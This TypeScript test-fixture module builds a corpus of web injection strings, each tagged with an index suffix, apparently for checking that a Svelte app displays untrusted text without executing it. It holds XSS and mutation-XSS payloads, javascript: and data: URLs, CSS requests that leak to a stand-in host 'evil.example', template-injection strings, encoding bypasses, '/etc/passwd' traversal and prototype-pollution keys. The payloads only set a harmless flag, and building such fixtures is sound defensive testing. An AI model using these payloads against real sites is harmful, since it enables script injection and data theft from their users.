const run = 'globalThis.hit=1';
const image = `<img hit src=x onerror=${run}>`;
const elsewhere = 'evil.example';

/**
 * Texts that run scripts, load resources or create elements if a page treats them as more than text. Their scripts set
 * `hit` on the page's window, their elements have the attribute `hit`, and their requests go to `evil.example`.
 */
const texts: readonly string[] = [
  // Scripts and event handlers, as elements and escaping from an attribute.
  `<script hit>${run}</script>`,
  `"><script hit src=//${elsewhere}/x.js></script>`,
  image,
  `'"><img hit src=x onerror="${run}">`,
  `" onmouseover="${run}" autofocus onfocus="${run}" hit="`,
  `' onclick='${run}' style='position:fixed;inset:0' hit='`,
  `<details hit open ontoggle=${run}>`,
  `<input hit autofocus onfocus=${run}>`,
  `<video hit><source onerror=${run}></video>`,
  `<x-unknown hit tabindex=1 onfocus=${run} autofocus>x</x-unknown>`,
  `<ıMG hit src=x onerror=${run}><IMG HIT SRC=x OnErRoR=${run}>`,
  // Other documents, and elements that change this one.
  `<iframe hit src="javascript:parent.hit=1"></iframe>`,
  `<iframe hit srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object hit data="data:text/html,<script>parent.hit=1</script>"></object>`,
  `<embed hit src="https://${elsewhere}/x.swf">`,
  `<base hit href="https://${elsewhere}/">`,
  `<meta hit http-equiv="refresh" content="0;url=https://${elsewhere}/">`,
  `<form hit action="https://${elsewhere}/"><button hit formaction="javascript:${run}">go</button></form>`,
  // Styles.
  `<link hit rel=stylesheet href="https://${elsewhere}/x.css">`,
  `<style hit>*{background:url(https://${elsewhere}/leak)}</style>`,
  `red;background-image:url(https://${elsewhere}/leak)`,
  `url(https://${elsewhere}/leak)`,
  // SVG and MathML, and markup that changes when it is parsed again.
  `<svg hit onload=${run}>`,
  `<svg hit><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg hit><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
  `<math hit><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img hit src=1 onerror=${run}&gt;">`,
  `<svg hit></p><style><a id="</style>${image}">`,
  `<noscript hit><p title="</noscript>${image}">`,
  `</textarea></title></style></script>${image}`,
  `-->${image}<!-- ]]>${image}`,
  // Links.
  `<a hit href="javascript:${run}">go</a>`,
  `javascript:${run}//`,
  `\u0001 java\tscript\n:${run}//`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=`,
  `//${elsewhere}/leak.png`,
  `https://${elsewhere}/leak.png`,
  'file:///etc/passwd',
  '../../../../etc/passwd\0.png',
  // Templates, Svelte's first.
  `{@html "${image.replaceAll('"', "'")}"}{@const x = (${run})}`,
  `{${run}}{#if (${run})}x{/if}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}\`\${${run}}\`<%= ${run} %>`,
  // Encoded in other ways.
  `&lt;img hit src=x onerror=${run}&gt;&#60;img hit src=x onerror=${run}&#62;`,
  `%3Cimg%20hit%20src%3Dx%20onerror%3D${run}%3E`,
  `\\u003cimg hit src=x onerror=${run}\\u003e\\x3cimg hit src=x onerror=${run}\\x3e`,
  `＜img hit src=x onerror=${run}＞‹img hit src=x onerror=${run}›`,
  `<im\0g hit src=x onerror=${run}><img\u2028hit\u2029src=x onerror=${run}>`,
  `\u202e${image}\u202c \u2066gpj.exe\u2069 ${'Z\u0351\u0344\u0320'.repeat(5)}`,
  `\ufeff\u200b${image}\ud800`,
  // Property names of objects.
  '__proto__',
  'constructor.prototype.hit',
];

/** The unique suffix of each text, by which it is found on a screen. No other text contains it. */
const mark = (at: number): string => `~${String(at).padStart(2, '0')}~`;
const marks = /~(\d\d)~/g;

/** Direction marks, which must be visible as symbols with any text of the corpus. */
const turning = '\u2066\u2069';

/** The corpus: every text with its suffix. */
export const payloads: readonly string[] = texts.map((text, at) => text + turning + mark(at));

/** Returns the text at an index, modulo the length of the corpus. */
export const payload = (at: number): string => payloads[at % payloads.length] ?? '';

/** Returns the indexes of the corpus texts in the text of a page. */
export const shownIn = (words: string): Set<number> =>
  new Set([...words.matchAll(marks)].map(([, place]) => Number(place)));
